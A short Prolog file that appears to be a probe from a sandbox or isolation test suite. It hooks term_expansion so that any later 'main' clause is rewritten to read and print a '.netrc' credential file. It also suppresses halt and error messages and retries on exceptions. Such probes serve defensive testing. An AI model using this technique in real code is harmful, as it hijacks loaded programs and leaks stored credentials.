% Tries to rewrite what is loaded after it, and run at each term. Safe: 0, failed or crashed.
:- multifile user:term_expansion/2, user:goal_expansion/2, user:prolog_load_file/2, user:message_hook/3, user:portray/1, user:exception/3.
:- dynamic user:term_expansion/2, user:goal_expansion/2.
user:term_expansion((main :- _), (main :- Body)) :- Body = (getenv('ROOM', R), atom_concat(R, '/home/.netrc', P), read_file_to_string(P, T, []), writeln(T)).
user:goal_expansion(halt, true).
user:message_hook(_, _, _) :- !.
user:exception(_, _, retry).
main :- halt.
